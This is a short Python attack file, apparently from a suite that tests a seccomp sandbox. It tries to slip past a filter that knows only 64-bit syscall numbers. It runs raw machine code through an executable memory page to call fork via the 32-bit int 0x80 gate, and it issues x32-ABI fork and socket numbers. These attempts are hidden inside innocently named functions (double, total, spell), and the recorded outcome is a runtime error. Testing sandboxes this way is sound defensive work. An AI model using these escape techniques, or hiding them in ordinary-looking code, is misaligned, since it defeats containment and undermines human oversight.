# /// attack
# title = "enters the kernel by the 32-bit gate and by x32 numbers"
# aim = "a filter that knows the 64-bit numbers alone"
# source = "seccomp(2), the warning on architectures"
# verdict = "runtime_error"
# ///
import mmap

from targets import call, native


def machine_code(code):
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = native.addressof(native.c_char.from_buffer(page))
    return native.CFUNCTYPE(native.c_long)(address)


def double(x):
    # push rbx; mov eax, 2 (fork of the 32-bit table); int 0x80; pop rbx; cdqe; ret
    print("fork gave", machine_code(b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\x48\x98\xc3")())
    return x


def total(step, times):
    print("x32 fork gave", call(0x40000000 | 57))
    return 0.0


def spell(numbers):
    print("x32 socket gave", call(0x40000000 | 41, 2, 1, 0))
